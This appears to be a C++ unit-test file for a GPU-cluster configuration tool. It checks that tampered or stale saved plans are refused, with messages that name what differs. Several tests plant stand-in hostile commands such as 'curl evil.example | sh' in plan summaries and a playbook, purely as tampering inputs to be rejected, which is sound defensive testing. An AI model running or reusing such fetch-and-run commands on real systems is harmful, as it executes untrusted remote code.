// Saved plans (api/saved_plan.hpp): a plan binds what decides its changes, and a saved plan is
// applied only when the plan made again now is the same; every kind of tampering or drift is
// refused with a message naming what differs.
#include <gpuctl/api/saved_plan.hpp>

#include <gpuctl/plan/render.hpp>
#include <gpuctl/util/sha256.hpp>

#include "program_builder.hpp"

#include <fmt/format.h>
#include <filesystem>
#include <fmt/format.h>
#include <fstream>
#include <functional>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <unistd.h>

namespace gpuctl {
namespace {

namespace fs = std::filesystem;
using testing::FileSpec;
using testing::ProgramFixture;
using testing::StepSpec;
using testing::resolved_command;
using testing::resolved_file;

constexpr std::string_view k_playbook_path = "/usr/share/gpuctl/playbooks/gpu-node.yaml";

// Everything a plan is made from; each test changes one thing between the saved plan and now.
struct World {
  std::string inventory_digest = util::sha256_hex("cluster: {name: lab}\n");
  std::string playbook_path{k_playbook_path};
  std::string playbook_digest = util::sha256_hex("steps: [...]\n");
  std::string key = "-----BEGIN PGP PUBLIC KEY BLOCK-----\nmQINBF...\n";
  std::string secret = std::string(1024, '\x5a');
  std::string nccl = "NCCL_DEBUG=WARN\n";
  std::string boot_id = "b1";
  std::vector<std::string> nodes{"gpu01", "gpu02"};
  std::vector<std::string> unreachable;
};

ResolvedResource source_file(std::string path, std::string source, std::string content) {
  auto r = resolved_file(std::move(path), std::move(content));
  r.resource.file.template_name.clear();
  r.resource.file.source = std::move(source);
  return r;
}

class SavedPlan : public ::testing::Test {
 protected:
  void SetUp() override {
    m_templates = fs::temp_directory_path() / ("gpuctl-saved-plan-" + std::to_string(::getpid()) + "-" +
                                               ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::create_directories(m_templates / "partials");
    write_template("nccl.conf.mustache", "NCCL_DEBUG={{nccl.debug}}\n");
    write_template("partials/header.mustache", "# managed by gpuctl\n");
  }
  void TearDown() override { fs::remove_all(m_templates); }

  void write_template(const std::string& name, const std::string& content) {
    std::ofstream(m_templates / name) << content;
  }

  // The plan `gpuctl plan` would make in `world`.
  Plan make_plan(const World& world) const {
    Plan plan;
    plan.created_at = "2026-01-01T00:00:00Z";
    plan.inventory_path = "cluster.yaml";
    plan.inventory_digest = world.inventory_digest;
    plan.limit = "gpu[01-02]";
    std::vector<std::unique_ptr<ProgramFixture>> fixtures;
    std::vector<const NodeProgram*> programs;
    for (const auto& node : world.nodes) {
      std::vector<StepSpec> steps;
      steps.emplace_back("cuda-repository",
                         std::vector{source_file("/etc/apt/keyrings/cuda.asc", "keys/cuda.asc", world.key),
                                     resolved_command("apt-get update", "/var/lib/apt/lists/lock")});
      steps.emplace_back("nccl", std::vector{resolved_file("/etc/nccl.conf", world.nccl)});
      steps.emplace_back("slurm", std::vector{resolved_file("/etc/munge/munge.key", world.secret,
                                                            FileSpec{0400, "munge", "munge", true, {}})});
      fixtures.push_back(std::make_unique<ProgramFixture>(std::move(steps), std::vector<Handler>{}, node));
      programs.push_back(&fixtures.back()->program);
      if (std::ranges::find(world.unreachable, node) != world.unreachable.end()) {
        plan.nodes.push_back({node, NodePlanStatus::unreachable, "connection refused", {}, {}});
        continue;
      }
      NodeState state;
      state.facts.boot_id.value = world.boot_id;
      plan.nodes.push_back(make_node_plan(fixtures.back()->program, state));
    }
    Playbook playbook;
    playbook.name = "gpu-node";
    playbook.path = world.playbook_path;
    playbook.digest = world.playbook_digest;
    bind_plan_inputs(plan, {playbook}, {"gpu-node"}, m_templates.string(), programs);
    return plan;
  }

  fs::path m_templates;
};

// A plan as `plan -o FILE` saves it and `apply FILE` reads it back.
Plan saved(const Plan& plan) {
  auto back = plan_from_json(plan_to_json(plan), "plan.json");
  EXPECT_TRUE(back) << back.error().to_string();
  return *back;
}

// A saved plan whose JSON was edited by hand (its recorded digests left as they were).
Plan edited(const Plan& plan, const std::function<void(nlohmann::json&)>& edit) {
  auto document = nlohmann::json::parse(plan_to_json(plan));
  edit(document);
  auto back = plan_from_json(document.dump(), "plan.json");
  EXPECT_TRUE(back) << back.error().to_string();
  return *back;
}

// The refusal's message; fails the test when the plan is accepted.
std::string refusal(const Plan& saved_plan, const Plan& fresh) {
  const auto checked = check_saved_plan(saved_plan, fresh);
  if (checked) {
    ADD_FAILURE() << "the saved plan was accepted";
    return {};
  }
  EXPECT_EQ(checked.error().code, ErrorCode::stale_plan);
  EXPECT_NE(checked.error().hint.find("run gpuctl plan again"), std::string::npos);
  return checked.error().message;
}

Change& change_on(Plan& plan, std::string_view node, std::string_view resource) {
  auto& changes = std::ranges::find(plan.nodes, node, &NodePlan::node)->changes;
  return *std::ranges::find(changes, resource, &Change::resource);
}

TEST_F(SavedPlan, UntamperedPlanIsAcceptedWhateverItsAge) {
  const World world;
  auto fresh = make_plan(world);
  fresh.created_at = "2026-02-01T00:00:00Z";
  const auto checked = check_saved_plan(saved(make_plan(world)), fresh);
  EXPECT_TRUE(checked) << checked.error().to_string();
}

TEST_F(SavedPlan, BindsPlaybooksTemplatesSourceFilesAndSecretsByDigestOnly) {
  World world;
  auto plan = saved(make_plan(world));
  EXPECT_EQ(plan.gpuctl_version, GPUCTL_VERSION);
  ASSERT_EQ(plan.playbooks.size(), 1u);
  EXPECT_EQ(plan.playbooks[0].name, "gpu-node");
  EXPECT_EQ(plan.playbooks[0].path, k_playbook_path);
  EXPECT_EQ(plan.playbooks[0].digest, world.playbook_digest);
  ASSERT_EQ(plan.templates.size(), 2u);
  EXPECT_EQ(plan.templates[0].name, "nccl.conf.mustache");
  EXPECT_EQ(plan.templates[0].digest, util::sha256_hex("NCCL_DEBUG={{nccl.debug}}\n"));
  EXPECT_EQ(plan.templates[1].name, "partials/header.mustache");
  ASSERT_EQ(plan.source_files.size(), 1u);  // read by both nodes, bound once
  EXPECT_EQ(plan.source_files[0].name, "keys/cuda.asc");
  EXPECT_EQ(plan.source_files[0].digest, util::sha256_hex(world.key));
  ASSERT_EQ(plan.secrets.size(), 1u);
  EXPECT_EQ(plan.secrets[0].name, "munge.key");
  EXPECT_EQ(plan.secrets[0].digest, util::sha256_hex(world.secret));
  // The secret itself is nowhere in the saved file.
  world.secret = "S3CR3T-" + std::string(1017, 'q');
  EXPECT_EQ(plan_to_json(make_plan(world)).find("S3CR3T"), std::string::npos);
  EXPECT_EQ(change_on(plan, "gpu01", "file:/etc/nccl.conf").content_digest,
            util::sha256_hex(World{}.nccl));
}

TEST_F(SavedPlan, EditedCommandWithTheDigestLeftIsRefusedAsEdited) {
  const World world;
  const auto tampered = edited(make_plan(world), [](nlohmann::json& plan) {
    for (auto& change : plan["nodes"][1]["changes"])
      if (change["resource"] == "command:apt-get update") change["summary"] = "run `curl evil.example | sh`";
  });
  EXPECT_EQ(refusal(tampered, make_plan(world)),
            "the saved plan is not what gpuctl would do now: node gpu02: the changes array was edited (digest mismatch)");
}

TEST_F(SavedPlan, EditedCommandWithTheDigestRecomputedDiffersFromThePlanMadeNow) {
  const World world;
  auto plan = make_plan(world);
  change_on(plan, "gpu02", "command:apt-get update").summary = "run `curl evil.example | sh`";
  EXPECT_EQ(refusal(saved(plan), make_plan(world)),
            "the saved plan is not what gpuctl would do now: node gpu02: the changes differ: » run `curl "
            "evil.example | sh` (saved) vs » run `apt-get update` (now)");
}

TEST_F(SavedPlan, EditedPathIsRefused) {
  const World world;
  auto plan = make_plan(world);
  auto& change = change_on(plan, "gpu01", "file:/etc/nccl.conf");
  change.resource = "file:/etc/profile.d/nccl.sh";
  change.summary = "create /etc/profile.d/nccl.sh (0644 root:root)";
  EXPECT_NE(refusal(saved(plan), make_plan(world))
                .find("node gpu01: the changes differ: + create /etc/profile.d/nccl.sh (0644 root:root) (saved) vs "
                      "+ create /etc/nccl.conf (0644 root:root) (now)"),
            std::string::npos);
}

TEST_F(SavedPlan, EditedContentDigestIsRefusedNamingTheField) {
  const World world;
  auto plan = make_plan(world);
  change_on(plan, "gpu01", "file:/etc/nccl.conf").content_digest = util::sha256_hex("NCCL_DEBUG=TRACE\n");
  EXPECT_NE(refusal(saved(plan), make_plan(world))
                .find("node gpu01: the changes differ: + create /etc/nccl.conf (0644 root:root): its content digest "
                      "differs"),
            std::string::npos);
}

TEST_F(SavedPlan, EditedDiffIsRefused) {
  const World world;
  auto plan = make_plan(world);
  change_on(plan, "gpu01", "file:/etc/nccl.conf").diff = "--- /dev/null\n+++ /etc/nccl.conf\n+NCCL_DEBUG=WARN\n";
  EXPECT_NE(refusal(saved(plan), make_plan(world)).find("its diff differs"), std::string::npos);
}

TEST_F(SavedPlan, PlaybookPathEditedWithItsDigestRecomputedIsRefused) {
  const World world;
  auto plan = make_plan(world);
  plan.playbooks[0].path = "/tmp/evil.yaml";
  plan.playbooks[0].digest = util::sha256_hex("steps: [{command: {run: 'curl evil | sh'}}]\n");
  EXPECT_EQ(refusal(saved(plan), make_plan(world)),
            fmt::format("the saved plan is not what gpuctl would do now: playbook gpu-node changed (path "
                        "/tmp/evil.yaml saved, {} now)",
                        k_playbook_path));
}

TEST_F(SavedPlan, PlaybookThatResolvesElsewhereNowIsRefused) {
  World world;
  const auto plan = saved(make_plan(world));
  world.playbook_path = "/opt/other/gpu-node.yaml";  // e.g. GPUCTL_PLAYBOOKS_DIR points elsewhere now
  EXPECT_NE(refusal(plan, make_plan(world)).find("playbook gpu-node changed (path " + std::string(k_playbook_path)),
            std::string::npos);
}

TEST_F(SavedPlan, PlaybookEditedInPlaceIsRefused) {
  World world;
  const auto plan = saved(make_plan(world));
  world.playbook_digest = util::sha256_hex("steps: [changed]\n");
  EXPECT_EQ(refusal(plan, make_plan(world)),
            fmt::format("the saved plan is not what gpuctl would do now: playbook gpu-node changed (path {})",
                        k_playbook_path));
}

TEST_F(SavedPlan, SwappedKeyFileIsRefusedNamingTheSourceFile) {
  World world;
  const auto plan = saved(make_plan(world));
  world.key = "-----BEGIN PGP PUBLIC KEY BLOCK-----\nATTACKER...\n";
  const auto message = refusal(plan, make_plan(world));
  EXPECT_NE(message.find("source file keys/cuda.asc changed"), std::string::npos) << message;
  // The create's diff shows the key, so each node's changes differ too.
  EXPECT_NE(message.find("node gpu01: the changes differ: + create /etc/apt/keyrings/cuda.asc"), std::string::npos)
      << message;
}

TEST_F(SavedPlan, ChangedSecretIsRefusedThoughNoDiffShowsIt) {
  World world;
  const auto plan = saved(make_plan(world));
  world.secret = std::string(1024, '\x17');
  const auto message = refusal(plan, make_plan(world));
  EXPECT_NE(message.find("secret munge.key changed"), std::string::npos) << message;
}

TEST_F(SavedPlan, EditedSecretDigestIsRefused) {
  const World world;
  const auto tampered = edited(make_plan(world), [](nlohmann::json& plan) {
    plan["secrets"][0]["digest"] = util::sha256_hex("another key");
  });
  EXPECT_EQ(refusal(tampered, make_plan(world)),
            "the saved plan is not what gpuctl would do now: secret munge.key changed");
}

TEST_F(SavedPlan, ChangedInventoryOrTemplateIsRefused) {
  World world;
  const auto plan = saved(make_plan(world));
  world.inventory_digest = util::sha256_hex("cluster: {name: lab2}\n");
  write_template("partials/header.mustache", "# edited\n");
  write_template("extra.mustache", "x\n");
  EXPECT_EQ(refusal(plan, make_plan(world)),
            "the saved plan is not what gpuctl would do now: the inventory changed (cluster.yaml); template "
            "extra.mustache is new; template partials/header.mustache changed");
}

TEST_F(SavedPlan, NodeWhoseStateChangedOutsideItsChangesIsRefused) {
  World world;
  const auto plan = saved(make_plan(world));
  world.boot_id = "b2";  // rebooted since: the changes read the same, the fingerprint does not
  const auto message = refusal(plan, make_plan(world));
  EXPECT_NE(message.find("node gpu01: its state changed since the plan was made"), std::string::npos) << message;
  EXPECT_NE(message.find("node gpu02: its state changed since the plan was made"), std::string::npos) << message;
}

TEST_F(SavedPlan, NodeUnreachableNowOrMissingIsRefused) {
  World world;
  const auto plan = saved(make_plan(world));
  world.unreachable = {"gpu02"};
  EXPECT_EQ(refusal(plan, make_plan(world)),
            "the saved plan is not what gpuctl would do now: node gpu02: planned (saved) vs unreachable (now): "
            "connection refused");
  world.unreachable.clear();
  world.nodes = {"gpu01", "gpu03"};
  const auto message = refusal(plan, make_plan(world));
  EXPECT_NE(message.find("node gpu02 is in the saved plan but not selected now"), std::string::npos) << message;
  EXPECT_NE(message.find("node gpu03 is selected now but not in the saved plan"), std::string::npos) << message;
}

TEST_F(SavedPlan, PlanOfAnotherGpuctlOrSelectionIsRefused) {
  const World world;
  auto plan = make_plan(world);
  plan.gpuctl_version = "0.0.9";
  plan.limit = "gpu01";
  EXPECT_EQ(refusal(saved(plan), make_plan(world)),
            fmt::format("the saved plan is not what gpuctl would do now: it was made by gpuctl 0.0.9; this is gpuctl "
                        "{}; the node selection (--limit) differs ('gpu01' saved, 'gpu[01-02]' now)",
                        GPUCTL_VERSION));
}

TEST_F(SavedPlan, ManyDifferencesAreCountedAfterTheFirstFew) {
  World world;
  world.nodes.clear();
  for (int i = 1; i <= 20; ++i) world.nodes.push_back(fmt::format("gpu{:02}", i));
  const auto plan = saved(make_plan(world));
  world.nccl = "NCCL_DEBUG=INFO\n";
  const auto message = refusal(plan, make_plan(world));
  EXPECT_NE(message.find("node gpu08: the changes differ"), std::string::npos) << message;
  EXPECT_EQ(message.find("node gpu09"), std::string::npos) << message;
  EXPECT_TRUE(message.ends_with("; and 12 more")) << message;
}

}  // namespace
}  // namespace gpuctl

namespace gpuctl {
namespace {

// A saved plan's numbers are read exactly (issue #37): nlohmann's get<int>() would read
// 4294967298 and 2.5 as 2, the format this gpuctl reads.
TEST(SavedPlanNumbers, FormatVersionAndIndexesAreWholeNumbersInRange) {
  Plan plan;
  plan.nodes.push_back(NodePlan{"gpu01", NodePlanStatus::planned, "", "fp", {Change{}}});
  const auto text = plan_to_json(plan);
  ASSERT_TRUE(plan_from_json(text, "plan.json"));
  const auto with = [&](const std::string& from, const std::string& to) {
    auto edited = text;
    const auto at = edited.find(from);
    EXPECT_NE(at, std::string::npos) << from;
    edited.replace(at, from.size(), to);
    return plan_from_json(edited, "plan.json");
  };
  for (const auto* version : {"4294967298", "2.5", "2.0", "-1", "99999999999999999999", "\"2\""}) {
    const auto read = with("\"format_version\": 2", std::string("\"format_version\": ") + version);
    ASSERT_FALSE(read) << version;
    EXPECT_NE(read.error().message.find("format_version"), std::string::npos) << read.error().message;
  }
  EXPECT_FALSE(with("\"step_index\": 0", "\"step_index\": 18446744073709551615"));
  EXPECT_FALSE(with("\"resource_index\": 0", "\"resource_index\": -3"));
}

}  // namespace
}  // namespace gpuctl
